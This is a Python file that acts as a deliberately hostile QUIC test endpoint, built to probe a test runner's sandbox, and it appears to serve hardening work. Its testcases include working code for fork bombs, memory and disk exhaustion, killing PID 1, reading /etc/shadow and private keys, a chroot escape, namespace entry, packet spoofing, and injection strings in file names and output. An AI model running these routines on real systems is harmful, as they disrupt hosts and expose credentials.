"""An endpoint that speaks no QUIC and attacks the runner: TESTCASE says how.

    hostile.py PLACE

PLACE is a folder of the machine with a socket and a FIFO that somebody listens to, and files that
others may not read. Each function below is a TESTCASE: its docstring says what it tries, and it
prints what came of that. As a server without such a TESTCASE it answers every datagram with Version
Negotiation.
Started without site packages, as there are many of them.
"""

from __future__ import annotations

import ctypes
import errno
import mmap
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

SERVER = ("193.167.100.100", 443)
GIB = 1 << 30
ODD_NAMES = (
    b"new\nline",
    b"\x1b[2Jansi",
    b"<script>alert(1)",
    b"\xff\xfe",
    b"\xe2\x80\xae",
)
CLIENT: dict[str, Callable[[Path], object]] = {}
SERVER_MODES: dict[str, Callable[[Path], object]] = {}


def client(mode: Callable[[Path], object]) -> Callable[[Path], object]:
    CLIENT[mode.__name__.replace("_", "-")] = mode
    return mode


def server(mode: Callable[[Path], object]) -> Callable[[Path], object]:
    SERVER_MODES[mode.__name__.replace("_", "-")] = mode
    return mode


@contextmanager
def trying(what: str) -> Iterator[None]:
    """Print whether something succeeds."""
    try:
        yield
    except (OSError, ValueError) as error:
        print(f"{what}: refused, {getattr(error, 'strerror', error)}", flush=True)
    else:
        print(f"{what}: done", flush=True)


def libc(name: str, *arguments: object) -> None:
    if getattr(ctypes.CDLL(None, use_errno=True), name)(*arguments) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


# --- Files ---------------------------------------------------------------------------------------


@client
def download_link_to_passwd(_: Path) -> None:
    """leaves a link to /etc/passwd in /downloads"""
    os.symlink("/etc/passwd", "/downloads/file")


@client
def log_link_to_passwd(_: Path) -> None:
    """leaves a link to /etc/passwd in /logs"""
    os.symlink("/etc/passwd", "/logs/stolen")


@client
def log_link_upwards(_: Path) -> None:
    """leaves a link to ../.. in /logs, and one as a folder's name"""
    os.symlink("../..", "/logs/stolen")
    os.symlink("/logs/stolen", "/logs/qlog/stolen")


@client
def log_fifo(_: Path) -> None:
    """leaves a FIFO in /logs"""
    os.mkfifo("/logs/stolen")


@client
def log_socket(_: Path) -> None:
    """leaves a socket in /logs"""
    socket.socket(socket.AF_UNIX).bind("/logs/stolen")


@client
def devices(_: Path) -> None:
    """makes devices in /logs and /downloads"""
    for folder in ("/logs", "/downloads"):
        with trying(folder):
            os.mknod(f"{folder}/disk", 0o60666, os.makedev(8, 0))


@client
def log_sparse_file(_: Path) -> None:
    """leaves a sparse file of 16 GiB in /logs"""
    with open("/logs/stolen", "wb") as file:
        file.truncate(16 * GIB)


@client
def download_sparse_file(_: Path) -> None:
    """leaves a sparse file of 16 GiB in /downloads"""
    with open("/downloads/stolen", "wb") as file:
        file.truncate(16 * GIB)


@client
def many_downloads(_: Path) -> None:
    """leaves more files in /downloads than it may"""
    with suppress(OSError):
        for number in range(100_000):
            os.mknod(f"/downloads/{number}")


@client
def many_logs(_: Path) -> None:
    """leaves 5,000 files in /logs"""
    for number in range(5000):
        os.mknod(f"/logs/{number}")


@client
def deep_folders(_: Path) -> None:
    """leaves folders in /logs that are 200 deep"""
    os.chdir("/logs")
    for _number in range(200):
        os.mkdir("stolen")
        os.chdir("stolen")


@client
def odd_log_names(_: Path) -> None:
    """leaves names in /logs with a line feed, ANSI and HTML codes, and bytes that are not UTF-8"""
    for name in ODD_NAMES:
        os.mknod(b"/logs/" + name)


@client
def odd_download_names(_: Path) -> None:
    """the same in /downloads"""
    for name in ODD_NAMES:
        os.mknod(b"/downloads/" + name)


@client
def unreadable_logs(_: Path) -> None:
    """takes all rights away from /logs and what is in it"""
    Path("/logs/stolen").write_text("x")
    os.chmod("/logs/stolen", 0)
    os.chmod("/logs", 0)


@client
def log_called_output(_: Path) -> None:
    """makes /logs/output.log a folder and /logs/attempt.json a file"""
    os.mkdir("/logs/output.log")
    Path("/logs/output.log/x").write_text("forged")
    Path("/logs/attempt.json").write_text("{}")


@client
def keys_folder(_: Path) -> None:
    """makes keys.log a folder"""
    os.mkdir("/logs/keys.log")


@client
def keys_link(_: Path) -> None:
    """makes keys.log a link to /etc/passwd"""
    os.symlink("/etc/passwd", "/logs/keys.log")


@client
def keys_fifo(_: Path) -> None:
    """makes keys.log a FIFO"""
    os.mkfifo("/logs/keys.log")


@client
def keys_sparse(_: Path) -> None:
    """makes keys.log a sparse file of 16 GiB"""
    with open("/logs/keys.log", "wb") as file:
        file.truncate(16 * GIB)


@client
def keys_garbage(_: Path) -> None:
    """writes 4 MiB of random bytes and a line of 1 MiB into keys.log"""
    label = b"CLIENT_RANDOM "
    Path("/logs/keys.log").write_bytes(label + b"a" * (1 << 20) + b"\n" + os.urandom(4 << 20))


@client
def qlog_link(_: Path) -> None:
    """makes /logs/qlog a link to /etc"""
    os.rmdir("/logs/qlog")
    os.symlink("/etc", "/logs/qlog")


@client
def qlog_fifo(_: Path) -> None:
    """makes /logs/qlog a FIFO"""
    os.rmdir("/logs/qlog")
    os.mkfifo("/logs/qlog")


@client
def qlog_file(_: Path) -> None:
    """makes /logs/qlog a file"""
    os.rmdir("/logs/qlog")
    Path("/logs/qlog").write_text("{}")


# --- What it prints ------------------------------------------------------------------------------


@client
def flooded_log(_: Path) -> None:
    """prints for ever"""
    while True:
        os.write(1, b"hostile\n" * 8192)


@client
def long_log(_: Path) -> None:
    """prints 20 MiB, then what matters"""
    for _number in range(20 * 16):
        os.write(1, b"hostile\n" * 8192)
    print("what matters")


@client
def binary_log(_: Path) -> None:
    """prints random bytes, ANSI and HTML codes"""
    os.write(1, b"\x1b[2J\x1b]0;owned\x07</pre><script>alert(1)</script>" + os.urandom(1 << 20))


@client
def closed_output(_: Path) -> None:
    """closes its standard output and error"""
    os.close(1)
    os.close(2)
    time.sleep(0.3)
    os._exit(0)


# --- Resources -----------------------------------------------------------------------------------


@client
def fork_bomb(_: Path) -> None:
    """starts as many processes as it can"""
    with suppress(OSError):
        while True:
            if os.fork() == 0:
                signal.pause()


@client
def memory_hog(_: Path) -> None:
    """allocates memory for ever"""
    parts = []
    while True:
        parts.append(b"x" * (8 << 20))


@client
def shared_memory_hog(_: Path) -> None:
    """allocates 4 GiB of shared memory"""
    for _number in range(16):
        shared = mmap.mmap(-1, GIB // 4)
        keep.append(shared)
        for offset in range(0, len(shared), 4096):
            shared[offset] = 1


keep: list[object] = []


def fill(folder: str) -> None:
    with suppress(OSError), open(f"{folder}/full", "wb") as file:
        while True:
            file.write(bytes(1 << 20))


@client
def full_tmp(_: Path) -> None:
    """fills /tmp"""
    fill("/tmp")


@client
def full_dev_shm(_: Path) -> None:
    """fills /dev/shm"""
    fill("/dev/shm")


@client
def full_logs(_: Path) -> None:
    """fills /logs"""
    fill("/logs")


@client
def full_downloads(_: Path) -> None:
    """fills /downloads"""
    fill("/downloads")


@client
def higher_limits(_: Path) -> None:
    """raises its own limits, and leaves its control group"""
    with trying("core"):
        resource.setrlimit(resource.RLIMIT_CORE, (1, 1))
    for group in Path("/sys/fs/cgroup").glob("*/cgroup.procs"):
        with trying("a control group"):
            group.write_text("0")


# --- Processes -----------------------------------------------------------------------------------


@client
def daemon(_: Path) -> None:
    """leaves a process behind: two forks, setsid(2), all descriptors closed"""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 256)
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            while True:
                signal.pause()
        os._exit(0)
    os.wait()


@client
def killer(_: Path) -> None:
    """kills its parent, PID 1 and every other process with SIGKILL"""
    for pid in (1, -1, max(os.getppid(), 1)):
        with trying(f"kill {pid}"):
            os.kill(pid, signal.SIGKILL)


@client
def tracer(_: Path) -> None:
    """traces PID 1 with ptrace(2) and reads its memory"""
    with trying("ptrace"):
        libc("ptrace", 16, 1, 0, 0)
    with trying("memory"), open("/proc/1/mem", "rb") as file:
        file.read(1)


@client
def proc_1(_: Path) -> None:
    """looks into /proc/1, and writes there"""
    with trying("root"):
        os.listdir("/proc/1/root")
    with trying("environment"), open("/proc/1/environ", "rb") as file:
        file.read()
    with trying("score"), open("/proc/1/oom_score_adj", "w") as file:
        file.write("-1000")


@client
def other_side(_: Path) -> None:
    """looks for the files and the processes of the other side"""
    print(f"/www: {os.listdir('/www')}")
    others = [
        pid for pid in os.listdir("/proc") if pid.isdigit() and pid not in ("1", str(os.getpid()))
    ]
    print(f"processes: {others}")
    for number in range(1, 3000):
        with suppress(OSError):
            os.listdir(f"/proc/{number}/root/www")
            if number != os.getpid():
                print("reached another process's files")


@client
def stopped(_: Path) -> None:
    """stops itself with SIGSTOP"""
    os.kill(os.getpid(), signal.SIGSTOP)


@client
def sigterm_ignored(_: Path) -> None:
    """ignores SIGTERM and never ends"""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        signal.pause()


@client
def exit_0(_: Path) -> None:
    """exits with 0"""


@client
def exit_1(_: Path) -> None:
    """exits with 1"""
    sys.exit(1)


@client
def exit_126(_: Path) -> None:
    """exits with 126, as a shell for a program that is not executable"""
    sys.exit(126)


@client
def exit_127(_: Path) -> None:
    """exits with 127"""
    sys.exit(127)


@client
def exit_255(_: Path) -> None:
    """exits with 255"""
    sys.exit(255)


def die(number: signal.Signals) -> None:
    signal.signal(number, signal.SIG_DFL) if number != signal.SIGKILL else None
    os.kill(os.getpid(), number)


@client
def death_by_sigsegv(_: Path) -> None:
    """dies of SIGSEGV"""
    die(signal.SIGSEGV)


@client
def death_by_sigkill(_: Path) -> None:
    """kills itself with SIGKILL"""
    die(signal.SIGKILL)


@client
def death_by_sigterm(_: Path) -> None:
    """ends itself with SIGTERM"""
    die(signal.SIGTERM)


# --- The machine ---------------------------------------------------------------------------------


@client
def written_certs(_: Path) -> None:
    """writes to /certs, /www, /etc, /usr and the program's own folder"""
    for folder in ("/certs", "/www", "/etc", "/usr", str(Path(__file__).parent)):
        with trying(folder), open(f"{folder}/forged", "w"):
            pass


@client
def mounts(_: Path) -> None:
    """mounts a tmpfs, unmounts /tmp, makes /certs writable"""
    with trying("mount"):
        libc("mount", b"x", b"/tmp", b"tmpfs", 0, None)
    with trying("umount"):
        libc("umount2", b"/certs", 2)
    with trying("remount"):
        libc("mount", None, b"/certs", None, 0x1020, None)


@client
def new_namespaces(_: Path) -> None:
    """makes namespaces and enters those of PID 1"""
    for flag in (0x20000, 0x40000000, 0x20000000):
        with trying(f"unshare {flag:#x}"):
            libc("unshare", flag)
    with trying("setns"), open("/proc/1/ns/mnt", "rb") as file:
        libc("setns", file.fileno(), 0)


@client
def chroot_escape(_: Path) -> None:
    """leaves its root by chroot(2)"""
    os.mkdir("/tmp/jail")
    own = os.listdir("/tmp")
    with trying("chroot"):
        root = os.open("/", os.O_RDONLY)
        os.chroot("/tmp/jail")
        os.fchdir(root)
        for _number in range(50):
            os.chdir("..")
        os.chroot(".")
    print(f"new in /tmp: {[name for name in os.listdir('/tmp') if name not in own]}")


@client
def machine_socket(place: Path) -> None:
    """connects to a socket on the machine's disk"""
    with trying("socket"):
        socket.socket(socket.AF_UNIX).connect(str(place / "socket"))


@client
def machine_fifo(place: Path) -> None:
    """writes to a FIFO on the machine's disk"""
    with trying("FIFO"):
        os.open(place / "fifo", os.O_WRONLY | os.O_NONBLOCK)


@client
def closed_files(place: Path) -> None:
    """reads what other users may not: /etc/shadow, a key of mode 0600, a home folder"""
    for name, file in (
        ("shadow", Path("/etc/shadow")),
        ("key", place / "key"),
        ("home", place / "home" / "file"),
    ):
        with trying(name):
            print(file.read_text(), flush=True)


@client
def abstract_socket(place: Path) -> None:
    """connects to an abstract socket of the machine"""
    with trying("abstract"):
        socket.socket(socket.AF_UNIX).connect(f"\0{place}")


@client
def clock(_: Path) -> None:
    """sets the machine's clock"""
    with trying("clock"):
        time.clock_settime(time.CLOCK_REALTIME, 0.0)


@client
def host_name(_: Path) -> None:
    """changes the host's name and the kernel's settings"""
    with trying("name"):
        socket.sethostname("owned")
    with trying("sysctl"), open("/proc/sys/net/ipv4/ip_forward", "w") as file:
        file.write("1")
    with trying("trigger"), open("/proc/sysrq-trigger", "w") as file:
        file.write("h")


# --- The network ---------------------------------------------------------------------------------


@client
def routes(_: Path) -> None:
    """adds an address and a default route, and connects to the outside"""
    for words in ("address add 10.9.8.7/8 dev eth0", "route add default via 193.167.0.2 dev eth0"):
        subprocess.run(("ip", *words.split()), check=False, capture_output=True)
    outside = socket.socket()
    outside.settimeout(0.3)
    with suppress(TimeoutError):
        outside.connect(("1.1.1.1", 53))
        print("reached the outside")


@client
def raw_sockets(_: Path) -> None:
    """sends ICMP, and floods the link with broadcast frames of its own making"""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as icmp:
        icmp.sendto(b"\x08\0" + bytes(60), (SERVER[0], 0))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind(("eth0", 0))
        for _number in range(100):
            raw.send(b"\xff" * 6 + bytes(6) + b"\x08\x06" + os.urandom(46))


@client
def spoofed_addresses(_: Path) -> None:
    """sends UDP datagrams with the server's and with foreign source addresses"""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for source in (SERVER[0], "127.0.0.1", "10.1.2.3", "255.255.255.255"):
            addresses = socket.inet_aton(source) + socket.inet_aton(SERVER[0])
            header = struct.pack("!BBHHHBBH", 0x45, 0, 48, 1, 0, 64, 17, 0) + addresses
            udp = struct.pack("!HHHH", 443, 443, 28, 0) + bytes(20)
            with suppress(OSError):
                raw.sendto(header + udp, (SERVER[0], 0))


@client
def interface_down(_: Path) -> None:
    """takes its interface down"""
    subprocess.run(("ip", "link", "set", "eth0", "down"), check=False)


# --- Servers -------------------------------------------------------------------------------------


@server
def server_sigterm_ignored(_: Path) -> None:
    """ignores SIGTERM"""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    serve()


@server
def server_daemon(_: Path) -> None:
    """serves from a process that it leaves behind"""
    ready, done = os.pipe()
    if os.fork() == 0:
        os.setsid()
        serve(lambda: os.write(done, b"!"))
    os.read(ready, 1)


@server
def server_exit(_: Path) -> None:
    """exits with 0 when the first datagram comes"""
    serve(lambda: os._exit(0), answer=False)


@server
def server_written_www(_: Path) -> None:
    """writes to /www and /certs"""
    for folder in ("/www", "/certs"):
        with trying(folder), open(f"{folder}/forged", "w"):
            pass
    serve()


@server
def server_fork_bomb(_: Path) -> None:
    """starts as many processes as it can"""
    fork_bomb(Path())
    serve()


def serve(first: Callable[[], object] = lambda: None, *, answer: bool = True) -> None:
    """Answer long header packets with Version Negotiation, for ever."""
    listener = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    listener.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    listener.bind(("::", SERVER[1]))
    while True:
        data, peer = listener.recvfrom(65536)
        if len(data) > 7 and data[0] & 0x80:
            end = 6 + data[5]
            destination, source = data[5:end], data[end : end + 1 + data[end]]
            if answer:
                listener.sendto(b"\xc0\0\0\0\0" + source + destination + b"\0\0\0\1", peer)
            first()


def main() -> None:
    role, testcase, place = os.environ["ROLE"], os.environ["TESTCASE"], Path(sys.argv[1])
    modes = CLIENT if role == "client" else SERVER_MODES
    if role == "client":  # captures with nothing in them say nothing
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(b"\xc0\x1a\x2a\x3a\x4a\x01c\x01s" + bytes(1192), SERVER)
    if testcase in modes:
        modes[testcase](place)
    elif testcase == "fine":
        serve() if role == "server" else None
    else:
        sys.exit(127)


if __name__ == "__main__":
    try:
        main()
    except MemoryError:
        sys.exit(errno.ENOMEM)
